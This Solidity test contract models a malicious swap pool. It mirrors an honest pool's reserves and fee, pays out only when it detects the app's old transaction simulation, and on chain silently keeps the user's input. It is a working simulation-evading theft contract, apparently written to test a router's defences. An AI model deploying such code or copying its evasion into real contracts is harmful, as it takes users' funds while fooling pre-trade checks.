// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface ISensingPoolMirror {
    function token0() external view returns (address);
    function token1() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function feeBps() external view returns (uint16);
}

/// @title SimulationSensingPool
/// @notice Test only, in no world plan: the "pool" a compromised service
/// could name in Devnet B's PackedRouter program to take a person's input.
/// To the router it looks like the honest pool it mirrors (the same
/// tokens, reserves and fee, both hop kinds' `swap`), so the router prices
/// it exactly as the quote did. It pays the output the router asks for,
/// from its own balances, only when it sees the signs of the app's old
/// simulation (before issue 32): the balance reader's code at the fixed
/// address 0x…5afe0000, that reader's caller at 0x…5afe0000000 or the
/// transaction's origin holding more than 10^27 wei (the old caller had
/// 2^96 − 1). Anywhere else, on chain above all, it keeps the input and
/// pays nothing, without reverting: with the program's minimum at 0 the
/// transaction succeeds and the payer gets nothing.
contract SimulationSensingPool {
    /// @dev Where the old simulation put its balance reader, and the
    /// account it called the reader from (src/features/swap/guards before
    /// issue 32 counted up from these when taken; they never are here).
    address internal constant OLD_READER = 0x000000000000000000000000000000005afe0000;
    address internal constant OLD_READER_CALLER = 0x000000000000000000000000000005afe0000000;
    /// @dev No real account holds a billion ether; the old caller held 79.
    uint256 internal constant SIMULATED_BALANCE = 1e27;

    address public immutable token0;
    address public immutable token1;
    /// @notice The honest pool whose reserves and fee this one reports.
    address public immutable mirror;

    error TransferFailed(address token);

    constructor(address mirror_) {
        mirror = mirror_;
        token0 = ISensingPoolMirror(mirror_).token0();
        token1 = ISensingPoolMirror(mirror_).token1();
    }

    function getReserves() external view returns (uint112, uint112, uint32) {
        return ISensingPoolMirror(mirror).getReserves();
    }

    /// @notice Read by the router for hop kind 1 (DevSwap) only.
    function feeBps() external view returns (uint16) {
        return ISensingPoolMirror(mirror).feeBps();
    }

    /// @notice Hop kind 0 (Uniswap V2 pair).
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata) external {
        _swap(amount0Out, amount1Out, to);
    }

    /// @notice Hop kind 1 (DevSwap pair).
    function swap(uint256 amount0Out, uint256 amount1Out, address to) external {
        _swap(amount0Out, amount1Out, to);
    }

    /// @notice Whether this pool would pay now: public so a test can ask
    /// it the same question under the same overrides.
    function seesSimulation() public view returns (bool) {
        return OLD_READER.code.length > 0 || OLD_READER_CALLER.balance > SIMULATED_BALANCE
            || tx.origin.balance > SIMULATED_BALANCE;
    }

    function _swap(uint256 amount0Out, uint256 amount1Out, address to) private {
        if (!seesSimulation()) return;
        if (amount0Out > 0) _transfer(token0, to, amount0Out);
        if (amount1Out > 0) _transfer(token1, to, amount1Out);
    }

    /// @dev Accepts tokens that return nothing (USDT).
    function _transfer(address token, address to, uint256 value) private {
        (bool ok, bytes memory returned) = token.call(abi.encodeWithSelector(0xa9059cbb, to, value));
        if (!ok || (returned.length != 0 && (returned.length < 32 || !abi.decode(returned, (bool))))) {
            revert TransferFailed(token);
        }
    }
}
